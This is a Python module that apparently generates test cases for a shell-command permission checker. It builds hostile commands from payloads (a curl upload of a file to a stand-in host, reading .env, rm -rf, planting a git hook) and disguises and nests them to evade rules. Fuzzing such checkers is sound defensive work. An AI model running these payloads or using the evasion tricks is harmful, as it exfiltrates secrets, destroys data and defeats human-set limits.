"""Hostile commands: what somebody writes who wants something to run that no rule allows.

A command is a template with a payload in it. Templates come in families; payloads are spelled, wrapped and nested.
Nothing here says what a command does: that is for bash to say (``arena.py``).
"""

from __future__ import annotations

import random
import re
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

PAYLOADS = ("evil", "evil --arg 'a b'", "git push origin main", "curl -d @a.txt http://x.test/", "rm -rf src", "touch pwned",
            "echo x > pwned", "cat .env", "cat ../outside/secret", "sed -i s/one/two/ a.txt", "tee pwned", "cp a.txt pwned",
            "echo x >> keep/a.txt", "echo x > .git/hooks/pre-commit", "evil <a.txt", "mkdir -p ../outside/pwned")
BENIGN = ("ls", "echo hi", "git status", "cat a.txt", "true", "pwd", "npm test", "make all", "wc -l a.txt", "grep one a.txt", ":",
          "[ -f a.txt ]", "git log -1 --oneline", "ls -la src | head -2", "echo 'it;s $(fine)'", "test -d src && echo yes")


class Hostile(NamedTuple):
    """``inner``: a program does it by its own means (a Makefile's recipe, ``awk``'s ``system``); rules for commands see
    the program alone."""

    family: str
    command: str
    inner: bool = False


_PLACE = re.compile(r"\{[PQSNTB]\}")
_SCRIPTED = ("script.sh", "BASH_ENV", "ENV=", "GIT_", "PAGER", "EDITOR", "HOME=", "mapfile -C", "readarray -C", "../bad",
             "PROMPT_COMMAND", "bash -i", "BASH_FUNC", "fsmonitor", "vim", "make -f")
"""Marks of templates in which a program reads what it runs from a file or its own variables."""


def disguised(name: str, rng: random.Random) -> str:
    """The name of a program in another spelling."""
    cut = rng.randint(1, max(1, len(name) - 1))
    head, tail = name[:cut], name[cut:]
    octal = "".join(f"\\{ord(c):03o}" if rng.random() < 0.5 else c for c in name)
    return rng.choice([
        f"{head}'{tail}'", f'{head}"{tail}"', f"'{head}'{tail}", f"{head}\\{tail}", f"{head}''{tail}", f'{head}""{tail}',
        f"\\{name}", f"$'{octal}'", f"$'{name}'", f"{head}$nope{tail}", f"{head}${{nope}}{tail}", f"{head}$(true){tail}",
        f"$(echo {name})", f"`echo {name}`", f"${{nope:-{name}}}", f"{{{name},}}", f"'{name}'", f'"{name}"',
        f"$(printf %s {name})", f"{head}\\\n{tail}"])


def filled(template: str, rng: random.Random) -> str:
    payload = rng.choice(PAYLOADS)
    name, _, rest = payload.partition(" ")
    text = template.replace("\\\\", "\0").replace("\\n", "\n").replace("\\t", "\t").replace("\0", "\\")
    values = {"{P}": payload, "{Q}": shlex.quote(payload), "{B}": rng.choice(BENIGN), "{N}": disguised("evil", rng),
              "{T}": "evil", "{S}": f"{disguised(name, rng)} {rest}".rstrip()}
    return _PLACE.sub(lambda m: values[m[0]], text)


def templates() -> list[tuple[str, str]]:
    """(family, template) of every line of the data file."""
    found: list[tuple[str, str]] = []
    family = ""
    for line in (Path(__file__).parent / "templates.txt").read_text("utf-8").splitlines():
        if re.fullmatch(r"\[[a-z]+\]", line):
            family = line[1:-1]
        elif line and not line.startswith("# "):
            found.append((family, line))
    return found


def unescaped(template: str) -> str:
    """``\\uXXXX`` and other escapes of the unicode family as characters."""
    text = template.encode("latin-1", "backslashreplace").decode("unicode_escape")
    return text.encode("utf-16", "surrogatepass").decode("utf-16")


def nested(command: str, rng: random.Random, depth: int) -> str:
    """A command inside others, ``depth`` levels deep."""
    for _ in range(depth):
        quoted = shlex.quote(command)
        command = rng.choice([
            f"bash -c {quoted}", f"sh -c {quoted}", f"eval {quoted}", f"({command}\n)", f"{{ {command}\n}}",
            f"echo $({command}\n)", f"echo \"$({command}\n)\"", f"if true; then {command}\nfi", f"true && {command}",
            f"{command}\ntrue", f"for i in 1; do {command}\ndone", f"timeout 5 bash -c {quoted}", f"f() {{ {command}\n}}; f",
            f"bash <<'END'\n{command}\nEND", f"bash <<< {quoted}", f"echo {quoted} | bash", f"cat <({command}\n)",
            f"x=$({command}\n)", f"[ -n \"$({command}\n)\" ]", f"! {command}", f"case a in a) {command}\n;; esac",
            f"env X=1 bash -c {quoted}", f"trap {quoted} EXIT", f"while true; do {command}\nbreak; done",
            f"echo x | xargs -I% bash -c {quoted}", f"nice bash -c {quoted}", f"cat <<EOF\n$({command}\n)\nEOF",
            f"{{ {command}\n}} 2>&1 | cat"])
    return command


def corpus(count: int, seed: int) -> Iterator[Hostile]:
    """At least ``count`` different commands: every template with several payloads, then nested ones."""
    rng = random.Random(seed)
    lines = templates()
    seen: set[str] = set()
    rounds = 0
    while len(seen) < count:
        rounds += 1
        for family, template in lines:
            if not _PLACE.search(template) and rounds not in (1, 4):
                continue  # it has no payload: once as it is, once nested
            text = filled(unescaped(template) if family == "unicode" else template, rng)
            depth = 0 if rounds < 3 else rng.randint(0, 3)
            command = nested(text, rng, depth)
            if command in seen or len(command) > 9_000:
                continue
            seen.add(command)
            inner = family == "programs" or any(mark in template for mark in _SCRIPTED)
            yield Hostile(family if not depth else "nested", command, inner)
        if rounds > 40:
            return
